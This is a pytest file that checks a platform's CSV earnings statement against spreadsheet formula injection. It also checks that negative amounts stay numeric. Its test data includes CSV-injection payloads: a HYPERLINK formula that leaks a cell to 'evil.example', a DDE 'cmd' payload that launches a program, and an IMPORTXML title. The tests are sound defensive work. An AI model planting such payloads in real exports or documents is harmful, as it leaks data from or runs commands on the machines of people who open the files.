"""The earnings statement opens safely in a spreadsheet: text that admins write (project titles, memos) cannot
become a formula, while amounts, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from annotations.services.ledger import Leg, funding, ledger_bonus, ledger_post, ledger_reverse, payable
from tests.factories import OrganizationFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_run_is_quoted(value: str) -> None:
    from annotations.domain.spreadsheet import text_cell

    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Bonus", "Lighthouse sketches", "a=b", "'already quoted", "6.00 USD"])
def test_plain_text_is_left_as_it_is(value: str) -> None:
    from annotations.domain.spreadsheet import text_cell

    assert text_cell(value) == value


def test_the_statement_quotes_titles_and_memos_and_keeps_amounts_numbers(client_for: Any) -> None:
    admin: Any = UserFactory(role="admin", organization=OrganizationFactory())
    fl: Any = UserFactory(role="freelancer")
    project: Any = ProjectFactory(title='=IMPORTXML("https://evil.example","//a")', organization=admin.organization)
    ledger_post(
        kind="earning",
        key="earning:t1",
        memo="@approved work",
        legs=[Leg(funding(project.pk), -600, "USD"), Leg(payable(fl.pk), 600, "USD")],
        project=project,
        freelancer=fl,
    )
    for n, memo in enumerate(HOSTILE):
        ledger_bonus(actor=admin, freelancer=fl, amount_minor=100 + n, currency="USD", memo=memo, key=f"b{n}")
    bonus, _ = ledger_bonus(actor=admin, freelancer=fl, amount_minor=250, currency="USD", memo="Typo", key="b-x")
    ledger_reverse(entry=bonus, memo="-Reversed: typo", created_by=admin)

    response = client_for(fl).get("/api/v1/me/earnings/statement.csv")

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, body = rows[0], rows[1:]
    assert header == ["date", "kind", "description", "project", "amount", "currency"]
    for row in body:
        for text in (row[1], row[2], row[3], row[5]):
            assert not text or text[0] not in "=+-@\t\r", row
    by_memo = {row[2]: row for row in body}
    for memo in HOSTILE:
        assert "'" + memo in by_memo
    assert by_memo["'@approved work"][3] == "'" + project.title
    assert by_memo["'-Reversed: typo"][4] == "-2.50"  # a negative amount is still a number
    assert by_memo["Typo"][4] == "2.50"
